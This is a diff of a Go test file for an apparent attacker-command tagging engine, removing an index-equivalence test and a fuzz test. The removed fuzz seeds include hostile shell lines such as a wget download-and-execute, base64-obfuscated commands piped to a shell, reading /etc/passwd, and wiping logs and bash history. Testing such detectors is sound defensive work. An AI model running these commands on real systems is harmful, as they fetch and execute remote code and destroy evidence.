@@ -1,17 +1,12 @@
 package tagger
 
 import (
-	"bufio"
-	"os"
 	"reflect"
-	"slices"
 	"strings"
 	"sync"
 	"testing"
 
 	"github.com/ttpcron/ttpcron"
-	"github.com/ttpcron/ttpcron/bench/workload"
-	"github.com/ttpcron/ttpcron/tagger/shell"
 )
 
 var loadEmbedded = sync.OnceValue(func() *RuleSet {
@@ -23,30 +18,6 @@ func commandEvent(text string) *ttpcron.Event {
 	return &ttpcron.Event{Kind: ttpcron.Command, ID: "e", AttackerIP: "203.0.113.1", Payload: ttpcron.TextPayload("command_text", text)}
 }
 
-// every tries every rule on a text, without index, cache and parser memory.
-func every(text string) (ids []string, bounded bool) {
-	var ev evaluation
-	ev.begin(text, commandEvent(text))
-	ev.script = shell.Parse(text, shell.Limits{})
-	for _, r := range unindexed() {
-		ev.budget.Steps = stepsPerEvent
-		if _, ok := r.try(r.check, &ev); ok {
-			ids = append(ids, r.ID)
-		}
-	}
-	return ids, ev.budget.Met
-}
-
-// unindexed are the rules of commands, without programs and gates to go by.
-var unindexed = sync.OnceValue(func() (out []*runnable) {
-	for _, d := range loadEmbedded().defs {
-		if slices.Contains(d.Kinds, ttpcron.Command) {
-			out = append(out, newRunnable(d, ttpcron.Command, nil))
-		}
-	}
-	return out
-})
-
 func rulesOf(tags []ttpcron.Tag) (ids []string) {
 	for _, t := range tags {
 		if n := len(ids); n == 0 || ids[n-1] != t.RuleID {
@@ -54,74 +25,6 @@ func rulesOf(tags []ttpcron.Tag) (ids []string) {
 		}
 	}
 	return ids
-}
-
-// checkSame holds that a text gets the same tags with the index and without,
-// from the cache and without, from a fresh tagger and one that was used.
-func checkSame(t *testing.T, rs *RuleSet, used *Composite, text string) {
-	t.Helper()
-	first, v1 := used.Tag(commandEvent(text), nil)
-	again, v2 := used.Tag(commandEvent(text), nil)
-	fresh, v3 := rs.Tagger(nil).Tag(commandEvent(text), nil)
-	if !reflect.DeepEqual(first, again) || !reflect.DeepEqual(first, fresh) || v1 != v2 || v1 != v3 {
-		t.Fatalf("%q: %v %v, again %v %v, fresh %v %v", text, rulesOf(first), v1, rulesOf(again), v2, rulesOf(fresh), v3)
-	}
-	if v1.Bounded || v1.Skipped {
-		return
-	}
-	if want, met := every(text); !met && !reflect.DeepEqual(rulesOf(first), want) {
-		t.Fatalf("%q: with the index %v, without %v", text, rulesOf(first), want)
-	}
-}
-
-// TestSameWithoutIndex runs checkSame over a made history, and over the lines
-// of the file that TTPCRON_COMMANDS names.
-func TestSameWithoutIndex(t *testing.T) {
-	rs := loadEmbedded()
-	used := rs.Tagger(nil)
-	n := 300
-	if testing.Short() {
-		n = 50
-	}
-	for e := range workload.Events(workload.Options{Commands: n, Unique: true, Seed: 7}) {
-		text, _ := e.Payload.Text("command_text")
-		checkSame(t, rs, used, text)
-	}
-	name := os.Getenv("TTPCRON_COMMANDS")
-	if name == "" {
-		return
-	}
-	f, err := os.Open(name)
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer f.Close()
-	in := bufio.NewScanner(f)
-	in.Buffer(nil, 8<<20)
-	seen := map[string]bool{}
-	for in.Scan() {
-		if text := in.Text(); text != "" && !seen[text] {
-			seen[text] = true
-			checkSame(t, rs, used, text)
-		}
-	}
-}
-
-func FuzzSameWithoutIndex(f *testing.F) {
-	for _, s := range []string{
-		"wget http://203.0.113.9/a -O /tmp/a; chmod 777 /tmp/a; /tmp/a", `w'g'et http://x/a|s\h`, "echo d2hvYW1p|base64 -d|sh",
-		`/bin/busybox WGET`, "cat /etc/passwd\x00", "\u212aill -9 1", `bash -c "{echo,Y3VybA==}|{base64,-d}|bash"`, "crontab -l;uname -a&&nproc",
-		"echo \"root:x\"|chpasswd|bash", "$(which wget) x", "rm -rf /var/log/* ~/.bash_history", "nohup ./x >/dev/null 2>&1 &",
-	} {
-		f.Add(s)
-	}
-	rs := loadEmbedded()
-	used := rs.Tagger(nil)
-	f.Fuzz(func(t *testing.T, text string) {
-		if len(text) < 2000 {
-			checkSame(t, rs, used, text)
-		}
-	})
 }
 
 // hostile are texts made to cost as much as they can.
